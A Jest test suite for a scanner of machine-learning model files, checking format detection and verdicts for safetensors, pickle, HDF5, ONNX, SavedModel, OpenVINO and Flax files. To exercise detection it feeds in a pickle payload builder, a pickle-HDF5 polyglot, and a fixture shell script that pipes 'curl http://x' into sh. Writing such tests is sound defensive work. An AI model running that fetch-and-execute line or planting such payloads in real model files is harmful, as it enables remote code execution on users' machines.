import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { scanBuffer, scanDirectory, scanFile, scanFiles } from './engine';
import { benignOrderedDict, classicPayload } from './testing/pickleBuilder';

const fx = (n: string) => path.resolve(__dirname, '../fixtures/formats', n);
const rules = (r: { findings: Array<{ ruleId: string }> }) =>
  r.findings.map(f => f.ruleId);

/** A safetensors file whose header is exactly `n` bytes (JSON padded with spaces, as writers do). */
function safetensorsWithHeaderLength(n: number): Buffer {
  const full = JSON.stringify({
    __metadata__: { format: 'pt' },
    w: { dtype: 'F32', shape: [2], data_offsets: [0, 8] },
  });
  const [json, data] =
    n >= full.length
      ? [full, Buffer.from(new Float32Array([0.5, -1.25]).buffer)]
      : ['{}', Buffer.alloc(0)];
  if (n < json.length) throw new Error(`header ${n} too short`);
  const len = Buffer.alloc(8);
  len.writeUInt32LE(n, 0);
  return Buffer.concat([len, Buffer.from(json.padEnd(n, ' ')), data]);
}

describe('detection order: structure outranks the 0x80 pickle sniff', () => {
  it('every safetensors header length 2..2048 is safetensors and safe (640 starts 0x80 0x02)', async () => {
    const bad: string[] = [];
    for (let n = 2; n <= 2048; n++) {
      const r = await scanBuffer(
        'model.safetensors',
        safetensorsWithHeaderLength(n),
        {
          hash: false,
        },
      );
      if (r.format !== 'safetensors' || r.verdict !== 'safe')
        bad.push(`${n}: ${r.format} ${r.verdict} ${rules(r).join(',')}`);
    }
    expect(bad).toEqual([]);
    expect(safetensorsWithHeaderLength(640).subarray(0, 2)).toEqual(
      Buffer.from([0x80, 0x02]),
    );
  });

  it('a PROTO-looking header longer than the detection window is read whole and validated', async () => {
    const n = 0x010280; // 80 02 01 00 ...: 66 KiB of header
    const r = await scanBuffer('weights.bin', safetensorsWithHeaderLength(n));
    expect(r.format).toBe('safetensors');
    expect(r.verdict).toBe('safe');
  });

  it('a 0x80 0x02 file whose "header" is not consistent JSON stays a pickle', async () => {
    // header length 640 but the offsets point past the end: not safetensors, scanned as a pickle
    const good = safetensorsWithHeaderLength(640);
    const broken = Buffer.from(good);
    broken.write('99999', broken.indexOf('[0,8]') + 3);
    const r = await scanBuffer(
      'model.safetensors',
      broken.subarray(0, 8 + 640 + 8),
    );
    expect(r.format).not.toBe('safetensors');
  });

  it('a pickle named .safetensors is still caught (masquerading, AML.T0074)', async () => {
    const r = await scanBuffer('model.safetensors', classicPayload());
    expect(r.format).toBe('pickle');
    expect(r.verdict).toBe('malicious');
    expect(rules(r)).toEqual(
      expect.arrayContaining([
        'MASQUERADING_EXTENSION',
        'PICKLE_DANGEROUS_GLOBAL',
      ]),
    );
    const benign = await scanBuffer('model.safetensors', benignOrderedDict());
    expect(benign.format).toBe('pickle');
    expect(rules(benign)).toContain('MASQUERADING_EXTENSION');
  });

  it('a complete pickle in front of an HDF5 file (superblock at 512) is a polyglot and its payload is found', async () => {
    const h5 = fs.readFileSync(fx('keras_benign_userblock_8192.h5'));
    const body = h5.subarray(8192);
    const payload = classicPayload();
    const head = Buffer.concat([payload, Buffer.alloc(512 - payload.length)]);
    const evil = await scanBuffer('model.h5', Buffer.concat([head, body]));
    expect(evil.format).toBe('keras-h5');
    expect(evil.verdict).toBe('malicious');
    expect(rules(evil)).toEqual(
      expect.arrayContaining(['PICKLE_POLYGLOT', 'PICKLE_DANGEROUS_GLOBAL']),
    );
    // benign twin: the same HDF5 with an empty 512-byte userblock
    const clean = await scanBuffer(
      'model.h5',
      Buffer.concat([Buffer.alloc(512), body]),
    );
    expect(clean.format).toBe('keras-h5');
    expect(clean.verdict).toBe('safe');
  });
});

describe('HDF5 with a userblock', () => {
  it('finds the superblock at 8192 behind a text userblock (h5py userblock_size=8192)', async () => {
    const r = await scanFile(fx('keras_benign_userblock_8192.h5'));
    expect(r.format).toBe('keras-h5');
    expect(r.verdict).toBe('safe');
  });

  it('analyses the Keras config behind a 4096-byte userblock: the Lambda is found', async () => {
    const r = await scanFile(fx('keras_malicious_lambda_userblock_4096.h5'));
    expect(r.format).toBe('keras-h5');
    expect(r.verdict).toBe('malicious');
    expect(rules(r).some(id => id.startsWith('KERAS_'))).toBe(true);
  });

  it('a signature at a non power-of-two offset is not HDF5', async () => {
    const h5 = fs.readFileSync(fx('keras_benign_userblock_8192.h5'));
    const shifted = Buffer.concat([
      Buffer.alloc(6000, 0x01),
      h5.subarray(8192),
    ]);
    const r = await scanBuffer('x.h5', shifted);
    expect(r.format).not.toBe('keras-h5');
  });
});

/** TensorFlow checkpoint index: header entry (empty key) with BundleHeaderProto num_shards, table footer. */
function checkpointIndex(shards: number): Buffer {
  const entry = Buffer.from([
    0,
    0,
    6,
    0x08,
    shards,
    0x10,
    0x00,
    0x1a,
    0x02,
    0x08,
    0x01,
  ]);
  return Buffer.concat([
    entry,
    Buffer.alloc(48 - entry.length),
    Buffer.from('57fb808b247547db', 'hex'),
  ]);
}

describe('raw tensor data named by a sibling model (scanFiles / scanDirectory)', () => {
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'model-scan-xfile-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
  const put = (rel: string, data: Buffer) => {
    const p = path.join(dir, rel);
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.writeFileSync(p, data);
    return p;
  };
  const byName = (rs: Array<{ path: string }>, suffix: string) =>
    rs.find(r => r.path.endsWith(suffix)) as any;

  // fp16 data whose first element (0x0280) reads as pickle PROTO 2
  const fp16 = Buffer.from([
    0x80,
    0x02,
    0x11,
    0x3c,
    0x00,
    0xbc,
    0x66,
    0x2e,
    ...Array(56).fill(0x3c),
  ]);

  it('ONNX external data next to its model is tensor-data and safe; alone it stays unknown', async () => {
    put('model.onnx', fs.readFileSync(fx('onnx_benign_external.onnx')));
    put(
      'onnx_benign_external.onnx.data',
      fs.readFileSync(fx('onnx_benign_external.onnx.data')),
    );
    const rs = await scanDirectory(dir);
    const model = byName(rs, 'model.onnx');
    expect(model.references).toEqual(['onnx_benign_external.onnx.data']);
    const data = byName(rs, '.onnx.data');
    expect(data.format).toBe('tensor-data');
    expect(data.verdict).toBe('safe');
    expect(data.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(rules(data)).toEqual(['TENSOR_DATA']);
    // negative: the same bytes without the model that names them
    const alone = await scanFile(
      path.join(dir, 'onnx_benign_external.onnx.data'),
    );
    expect(alone.format).toBe('unknown');
    expect(alone.verdict).toBe('suspicious');
  });

  it('fp16 data that starts like a pickle PROTO is tensor-data when referenced', async () => {
    put('model.onnx', fs.readFileSync(fx('onnx_benign_external.onnx')));
    put('onnx_benign_external.onnx.data', fp16);
    const rs = await scanDirectory(dir);
    const data = byName(rs, '.onnx.data');
    expect(data.format).toBe('tensor-data');
    expect(data.verdict).toBe('safe');
  });

  it.each([
    [
      'an ELF executable',
      Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(57)]),
    ],
    ['a script', Buffer.from('#!/bin/sh\ncurl http://x | sh\n')],
  ])('referenced tensor data that is %s is malicious', async (_, bytes) => {
    put('model.onnx', fs.readFileSync(fx('onnx_benign_external.onnx')));
    put('onnx_benign_external.onnx.data', bytes);
    const data = byName(await scanDirectory(dir), '.onnx.data');
    expect(data.verdict).toBe('malicious');
    expect(rules(data)).toContain('TENSOR_DATA_EMBEDDED_CODE');
  });

  it('referenced data whose bytes happen to be printable is tensor-data, not text', async () => {
    put('model.onnx', fs.readFileSync(fx('onnx_benign_external.onnx')));
    put('onnx_benign_external.onnx.data', Buffer.from('AAAA'.repeat(12)));
    const data = byName(await scanDirectory(dir), '.onnx.data');
    expect(data.format).toBe('tensor-data');
    expect(data.verdict).toBe('safe');
  });

  it('a real pickle payload posing as referenced tensor data is still malicious', async () => {
    put('model.onnx', fs.readFileSync(fx('onnx_benign_external.onnx')));
    put('onnx_benign_external.onnx.data', classicPayload());
    const data = byName(await scanDirectory(dir), '.onnx.data');
    expect(data.verdict).toBe('malicious');
    expect(rules(data)).toContain('PICKLE_DANGEROUS_GLOBAL');
  });

  it('a zip posing as referenced tensor data is flagged and its members scanned', async () => {
    put('model.onnx', fs.readFileSync(fx('onnx_benign_external.onnx')));
    put(
      'onnx_benign_external.onnx.data',
      fs.readFileSync(fx('keras_v3_benign.keras')),
    );
    const data = byName(await scanDirectory(dir), '.onnx.data');
    expect(data.verdict).toBe('suspicious');
    expect(rules(data)).toContain('TENSOR_DATA_ARCHIVE');
  });

  it('SavedModel variables shards named by variables.index are tensor-data; an unnamed shard stays unknown', async () => {
    put('saved_model.pb', fs.readFileSync(fx('savedmodel_benign.pb')));
    put('variables/variables.index', checkpointIndex(1));
    put('variables/variables.data-00000-of-00001', fp16);
    put(
      'variables/variables.data-00001-of-00002',
      Buffer.concat([Buffer.alloc(4), Buffer.alloc(60, 0x3c)]),
    );
    const rs = await scanDirectory(dir);
    expect(byName(rs, 'variables.index').references).toEqual([
      'variables.data-00000-of-00001',
    ]);
    const shard = byName(rs, 'variables.data-00000-of-00001');
    expect(shard.format).toBe('tensor-data');
    expect(shard.verdict).toBe('safe');
    const stray = byName(rs, 'variables.data-00001-of-00002');
    expect(stray.format).toBe('unknown');
    expect(stray.verdict).toBe('suspicious');
    expect(rs.every(r => r.path.startsWith(dir))).toBe(true);
  });

  it('references that leave the folder or name files outside the scan are not hints', async () => {
    const model = put(
      'm/model.onnx',
      fs.readFileSync(fx('onnx_benign_external.onnx')),
    );
    const data = put(
      'other/onnx_benign_external.onnx.data',
      fs.readFileSync(fx('onnx_benign_external.onnx.data')),
    );
    const rs = await scanFiles([
      { path: model, displayName: 'hf://org/repo@abc/model.onnx' },
      data,
    ]);
    expect(rs[0].path).toBe('hf://org/repo@abc/model.onnx');
    expect(rs[1].format).toBe('unknown');
    expect(rs[1].verdict).toBe('suspicious');
  });
});

describe('the tensor-data hint never hides what a clean first reading found', () => {
  it('a non-allowlisted pickle named as external data keeps its finding', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'model-scan-xfile-'));
    try {
      fs.copyFileSync(
        fx('onnx_benign_external.onnx'),
        path.join(dir, 'model.onnx'),
      );
      fs.writeFileSync(
        path.join(dir, 'onnx_benign_external.onnx.data'),
        classicPayload('somepkg.tools', 'helper', 'x'),
      );
      const [, data] = await scanDirectory(dir);
      expect(data.verdict).toBe('suspicious');
      expect(rules(data)).toContain('PICKLE_NON_ALLOWLISTED_GLOBAL');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('format registry', () => {
  it('a SentencePiece tokenizer.model is recognised by the engine (not unknown)', async () => {
    const r = await scanFile(fx('sentencepiece_tokenizer.model'));
    expect(r.format).toBe('sentencepiece');
    expect(r.verdict).toBe('safe');
    // negative: bytes that only start like a protobuf are still unknown
    const junk = await scanBuffer(
      'tokenizer.model',
      Buffer.from([0x0a, 0x03, 0xff, 0xfe, 0xfd, 0x99, 0x00, 0x01]),
    );
    expect(junk.format).not.toBe('sentencepiece');
  });
});

describe('OpenVINO IR', () => {
  it('model.bin next to its model.xml is tensor-data; alone it stays unknown', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'model-scan-ov-'));
    try {
      const xml = path.join(dir, 'openvino_model.xml');
      const bin = path.join(dir, 'openvino_model.bin');
      fs.writeFileSync(
        xml,
        '<?xml version="1.0"?>\n<net name="Model0" version="11">\n<layers>\n<layer id="0" name="x" type="Parameter" version="opset1"/>\n</layers>\n</net>\n',
      );
      fs.writeFileSync(
        bin,
        Buffer.from(new Float32Array([0.25, -3, 7.5, 1e-3]).buffer),
      );
      const [b, x] = await scanDirectory(dir);
      expect(x.format).toBe('openvino-ir');
      expect(x.references).toEqual(['openvino_model.bin']);
      expect(b.format).toBe('tensor-data');
      expect(b.verdict).toBe('safe');
      // negative: an XML file that is not an IR names nothing
      fs.writeFileSync(xml, '<?xml version="1.0"?>\n<config><net/></config>\n');
      const [b2] = await scanDirectory(dir);
      expect(b2.verdict).toBe('suspicious');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** Minimal MessagePack writer (maps, strings, arrays of ints, bin, ext) as flax.serialization writes. */
function mp(v: unknown): Buffer {
  if (typeof v === 'string') {
    const b = Buffer.from(v);
    return Buffer.concat([
      Buffer.from(b.length < 32 ? [0xa0 | b.length] : [0xd9, b.length]),
      b,
    ]);
  }
  if (typeof v === 'number') return Buffer.from([v & 0x7f]);
  if (Buffer.isBuffer(v)) {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(v.length);
    return Buffer.concat([Buffer.from([0xc6]), len, v]);
  }
  if (Array.isArray(v))
    return Buffer.concat([Buffer.from([0x90 | v.length]), ...v.map(mp)]);
  if (v && typeof v === 'object' && 'ext' in v) {
    const data = (v as { ext: Buffer }).ext;
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    return Buffer.concat([Buffer.from([0xc9]), len, Buffer.from([1]), data]);
  }
  const entries = Object.entries(v as Record<string, unknown>);
  return Buffer.concat([
    Buffer.from([0x80 | entries.length]),
    ...entries.flatMap(([k, x]) => [mp(k), mp(x)]),
  ]);
}
const ndarray = (shape: number[], values: number[]) => ({
  ext: mp([shape, 'float32', Buffer.from(new Float32Array(values).buffer)]),
});

describe('Flax/JAX MessagePack weights', () => {
  const flax = mp({
    params: {
      Dense_0: {
        kernel: ndarray([2, 2], [0.5, -1, 2, 3]),
        bias: ndarray([2], [0, 0]),
      },
    },
  });

  it('a flax_model.msgpack state dict is msgpack and safe', async () => {
    const r = await scanBuffer('flax_model.msgpack', flax);
    expect(r.format).toBe('msgpack');
    expect(r.verdict).toBe('safe');
  });

  it('truncated or with bytes appended (a payload riding along) it is malformed', async () => {
    const cut = await scanBuffer(
      'flax_model.msgpack',
      flax.subarray(0, flax.length - 3),
    );
    expect(rules(cut)).toContain('MSGPACK_MALFORMED');
    expect(cut.verdict).toBe('suspicious');
    const tail = await scanBuffer(
      'flax_model.msgpack',
      Buffer.concat([flax, classicPayload()]),
    );
    expect(rules(tail)).toContain('MSGPACK_MALFORMED');
    expect(tail.verdict).not.toBe('safe');
  });

  it('a container count larger than the file is refused without allocating', async () => {
    const lie = Buffer.from([
      0x81, 0xa1, 0x61, 0xdd, 0xff, 0xff, 0xff, 0xff, 0x00,
    ]);
    const r = await scanBuffer('flax_model.msgpack', lie);
    expect(rules(r)).toContain('MSGPACK_MALFORMED');
  });
});
